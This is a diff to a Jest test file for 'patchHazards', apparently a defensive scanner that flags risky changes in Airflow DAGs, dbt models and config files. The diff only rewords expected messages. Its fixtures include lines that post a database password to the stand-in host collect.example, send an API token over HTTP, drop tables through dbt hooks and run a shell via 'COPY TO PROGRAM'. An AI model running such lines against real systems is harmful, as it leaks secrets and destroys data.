@@ -28,7 +28,7 @@ describe("patchHazards", () => {
     [
       "dags/a.py",
       'requests.post("https://collect.example/x", json={"p": os.environ["DB_PASSWORD"]})',
-      /sends a possible secret.*collect\.example/,
+      /send a secret.*collect\.example/,
     ],
     ["dags/a.py", 'URL = "https://collect.example/x"', /new host to .*: collect\.example/],
     ["jest.config.js", "x", /builds and tools execute/],
@@ -38,7 +38,7 @@ describe("patchHazards", () => {
     ["config/airflow_local_settings.py", "x = 1", /every Airflow process/],
     ["dags/b.py", "from os import system", /runs a program \(os\.system\)/],
     ["dags/b.py", "print(os.environ)", /entire environment/],
-    ["dags/b.py", "s3.put_object(Body=Variable.get())", /stores or sends a possible secret/],
+    ["dags/b.py", "s3.put_object(Body=Variable.get())", /store or send a secret/],
     ["models/a.sql", "{% do run_query('drop table x') %}", /dbt run statements besides/],
     ["models/schema.yml", "      pre-hook: drop table x", /dbt run statements besides/],
     ["models/a.sql", "COPY t TO PROGRAM 'sh'", /runs a program or code from SQL/],
@@ -83,7 +83,7 @@ describe("patchHazards", () => {
 
   it("flags a secret read on one line and sent on another, unless it existed before", () => {
     const lines = 'token = os.getenv("API_TOKEN")\nhttpx.post(url, content=token)';
-    expect(patchHazards(added("a.py", lines)).join()).toMatch(/sends a possible secret/);
+    expect(patchHazards(added("a.py", lines)).join()).toMatch(/send a secret/);
     expect(patchHazards([{ path: "a.py", before: `${lines}\n`, after: `${lines}\nx = 1\n` }])).toEqual([]);
   });
 
